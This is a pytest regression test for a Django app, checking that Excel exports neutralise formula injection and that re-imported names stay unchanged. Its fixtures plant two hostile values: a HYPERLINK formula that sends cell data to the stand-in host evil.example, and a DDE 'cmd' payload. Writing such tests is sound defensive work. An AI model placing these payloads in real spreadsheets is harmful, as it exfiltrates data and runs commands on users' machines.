"""Formula injection (issue 14 defect 10): a name starting with = + - @ leaves every .xlsx export as text,
never as a live formula, and imports back unchanged."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from zhaoshang.enterprises.models import Enterprise
from zhaoshang.projects.models import Project

pytestmark = pytest.mark.django_db

PROJECT = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")'
INVESTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
SPB = {"region": "500106", "period": "2022H1"}


@pytest.fixture
def planted():
    project = Project.objects.filter(region__code="500106", is_key=True, signed_on__year=2022).order_by(
        "-contract_investment"
    )[0]
    Project.objects.filter(pk=project.pk).update(name=PROJECT, is_confidential=False)
    investor = project.investors.first()
    Enterprise.objects.filter(pk=investor.pk).update(name=INVESTOR)
    return project


def _formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f>(.*?)</f>", book.read(n).decode())]


def _texts(content: bytes) -> dict[str, object]:
    book = load_workbook(BytesIO(content))
    return {
        c.value: c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.value in (PROJECT, INVESTOR)
    }


@pytest.mark.parametrize(
    ("url", "params", "expected"),
    [
        ("imports:projects_export", {"region": "500106"}, {PROJECT}),
        ("imports:enterprises_export", {}, {INVESTOR}),
        ("targets:cockpit_export", SPB, {PROJECT}),
    ],
)
def test_exports_write_formula_like_names_as_text(admin_client, planted, url, params, expected):
    response = admin_client.get(reverse(url), params)
    assert response.status_code == 200
    assert _formulas(response.content) == []
    cells = _texts(response.content)
    assert expected <= set(cells)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())


def test_an_exported_formula_like_name_imports_back_unchanged(admin_client, planted, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    export = BytesIO(admin_client.get(reverse("imports:projects_export"), {"q": "evil.example"}).content)
    export.name = "导出.xlsx"
    report = admin_client.post(reverse("imports:projects"), {"file": export}).context["report"]
    assert (report.created, report.changed, report.errors) == (0, 0, [])
    planted.refresh_from_db()
    assert planted.name == PROJECT
